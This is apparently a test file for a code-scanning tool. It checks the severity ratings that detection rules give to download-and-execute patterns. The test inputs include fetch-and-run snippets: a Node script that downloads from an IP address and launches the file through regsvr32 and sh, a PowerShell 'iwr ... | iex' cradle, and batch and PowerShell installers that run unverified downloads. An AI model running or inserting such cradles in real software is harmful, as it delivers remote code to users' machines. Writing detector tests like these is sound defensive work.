"""Severities of droppers: a downloaded file given to a loader or an archive tool, a download checked against a
signature, PowerShell download cradles."""
from __future__ import annotations

from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document
from codescan.rules import load_rules

RULES = load_rules()


def _by_line(rule_id: str, path: str, text: str) -> dict[int, str]:
    analyzer = Analyzer(RULES.select((rule_id,), ()), Config(honour_suppressions=False))
    found = analyzer.analyze(Document(path=path, content=text.encode())).findings
    return {f.line: f.severity for f in found if f.rule_id == rule_id}


def test_js_downloaded_file_in_a_loaders_arguments_is_critical_given_to_tar_not_reported():
    text = ("const fs = require('fs');\nconst https = require('https');\nconst cp = require('child_process');\n"
            "const dest = require('path').join(require('os').tmpdir(), 'a');\n"
            "https.get('https://198.51.100.7/a', (res) => {\n"
            "  const out = fs.createWriteStream(dest);\n"
            "  res.pipe(out);\n"
            "  out.on('finish', () => {\n"
            "    cp.spawn('C:\\\\Windows\\\\System32\\\\regsvr32.exe', ['/s', dest]);\n"
            "    cp.execFileSync('tar', ['-xzf', dest, '-C', '/tmp/x']);\n"
            "    cp.spawnSync('sh', [dest]);\n"
            "  });\n"
            "});\n")
    assert _by_line("js-download-and-run-file", "scripts/get.js", text) == {9: "critical", 11: "critical"}


_UPDATER = ("import hashlib, os, urllib.request\n"
            "from nacl.signing import VerifyKey\n"
            "KEY = VerifyKey(bytes(32))\n"
            "def update(url, path):\n"
            "    blob = urllib.request.urlopen(url).read()\n"
            "    sig = urllib.request.urlopen(url + '.sig').read()\n"
            "    CHECK\n"
            "    with open(path, 'wb') as fh:\n"
            "        fh.write(blob)\n"
            "    os.chmod(path, 0o755)\n")


def test_python_download_checked_before_its_write_is_medium_a_check_of_other_data_or_swallowed_stays_critical():
    def grade(check):  # {1: severity} when the os.chmod line is reported
        text = _UPDATER.replace("CHECK", check)
        chmod = text[:text.index("os.chmod")].count("\n") + 1
        return {1 if line == chmod else line: sev
                for line, sev in _by_line("download-and-run-file", "updater.py", text).items()}
    signed = "try:\n        KEY.verify(blob, sig)\n    except Exception:\n        raise SystemExit('bad signature')"
    assert grade(signed) == {1: "medium"}
    assert grade("if not KEY.verify_detached(blob, sig):\n        sys.exit(1)") == {1: "medium"}
    assert grade("if hashlib.sha256(blob).hexdigest() != 'ab' * 32:\n        raise ValueError('digest')") == {1: "medium"}
    assert grade(signed.replace("raise SystemExit('bad signature')", "pass")) == {1: "critical"}
    assert grade(signed.replace("KEY.verify(blob, sig)", "KEY.verify(sig, sig)")) == {1: "critical"}
    assert grade("if hashlib.sha256(sig).hexdigest() != 'ab' * 32:\n        raise ValueError('digest')") == {1: "critical"}


def test_powershell_downloaded_file_started_after_a_hash_check_is_medium_without_it_critical():
    text = ("$p = \"$env:TEMP\\setup.exe\"\n"
            "Invoke-WebRequest -Uri https://example.org/setup.exe -OutFile $p\n"
            "if ((Get-FileHash $p).Hash -ne $Pinned) { throw 'hash' }\n"
            "Start-Process $p -Wait\n")
    assert _by_line("ps-runs-downloaded-code", "tools/get.ps1", text) == {4: "medium"}
    unchecked = text.replace("if ((Get-FileHash $p).Hash -ne $Pinned) { throw 'hash' }\n", "Write-Host 'ok'\n")
    assert _by_line("ps-runs-downloaded-code", "tools/get.ps1", unchecked) == {4: "critical"}
    assert _by_line("ps-runs-downloaded-code", "tools/get.psm1", "iwr http://203.0.113.9/a | iex\n") == {1: "critical"}


def test_batch_download_started_after_a_hash_check_is_medium_without_it_critical():
    text = ("@echo off\n"
            "curl -fsSL -o %TEMP%\\setup.exe https://example.org/setup.exe\n"
            "certutil -hashfile %TEMP%\\setup.exe SHA256 | findstr /i %PINNED% || exit /b 1\n"
            "start \"\" /wait %TEMP%\\setup.exe\n")
    assert _by_line("win-script-runs-downloaded-code", "get.bat", text) == {4: "medium"}
    unchecked = text.replace("certutil -hashfile %TEMP%\\setup.exe SHA256 | findstr /i %PINNED% || exit /b 1\n", "")
    assert _by_line("win-script-runs-downloaded-code", "get.cmd", unchecked) == {3: "critical"}


def test_js_pinned_download_unpacked_before_its_write_is_medium_with_unpinned_data_mixed_in_critical():
    text = ("const fs = require('fs'); const zlib = require('zlib'); const crypto = require('crypto');\n"
            "const cp = require('child_process');\n"
            "async function install(url, bin, extra) {\n"
            "  const buf = Buffer.from(await (await fetch(url)).arrayBuffer());\n"
            "  const sum = crypto.createHash('sha256').update(buf).digest('hex');\n"
            "  if (sum !== 'ab12') throw new Error('checksum mismatch');\n"
            "  fs.writeFileSync(bin, zlib.gunzipSync(buf));\n"
            "  cp.execFileSync(bin, ['--version']);\n"
            "}\n")

    def graded(source):
        found = {}
        for rule in ("js-download-and-run-file", "command-runs-decoded-data"):
            for line, severity in _by_line(rule, "install.js", source).items():
                found[(rule, line)] = severity
        return found
    assert graded(text) == {("js-download-and-run-file", 8): "medium"}
    mixed = text.replace("zlib.gunzipSync(buf)", "Buffer.concat([buf, Buffer.from(await (await fetch(extra)).arrayBuffer())])")
    assert graded(mixed)[("js-download-and-run-file", 8)] == "critical"
